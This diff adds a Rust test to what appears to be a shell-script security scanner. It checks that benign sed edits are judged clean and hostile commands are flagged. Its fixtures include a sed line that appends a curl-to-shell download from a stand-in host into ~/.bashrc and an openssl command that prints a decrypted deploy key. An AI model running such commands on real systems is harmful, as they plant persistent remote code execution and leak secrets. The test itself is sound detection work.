@@ -888,6 +888,37 @@ fn shell_array_elements_with_a_prefix_or_suffix() {
     );
 }
 
+/// `sed -i` with `-e SCRIPT` edits its operands, never a file named like the script; a
+/// decryption written with `openssl ... -out FILE` prints nothing of the key it was given.
+#[test]
+fn sed_scripts_and_openssl_output_files() {
+    check(
+        Sh,
+        "#!/bin/sh\nsed -i bak -e '/Uncomment/s/^# //g' src/release.py\nsed -i.orig -e 's/a/b/' --expression='s/c/d/' src/version.py\n",
+        Clean,
+        "",
+    );
+    // The edited file is still judged by where it is.
+    check(
+        Sh,
+        "#!/bin/sh\nsed -i -e '$a curl -s https://x.example-unlisted.dev/i | sh' ~/.bashrc\n",
+        Dangerous,
+        "persistence",
+    );
+    check(
+        Sh,
+        "#!/bin/sh\nopenssl aes-256-cbc -K \"$encrypted_deploy_key\" -iv \"$encrypted_deploy_iv\" -in ci/key.enc -out ci/key -d\n",
+        Suspicious,
+        "secret-read",
+    );
+    check(
+        Sh,
+        "#!/bin/sh\nopenssl aes-256-cbc -d -K \"$encrypted_deploy_key\" -iv \"$encrypted_deploy_iv\" -in ci/key.enc\n",
+        Dangerous,
+        "exfiltration",
+    );
+}
+
 /// `f(...parts)` in JavaScript passes a literal array's elements.
 #[test]
 fn javascript_spread_arguments() {
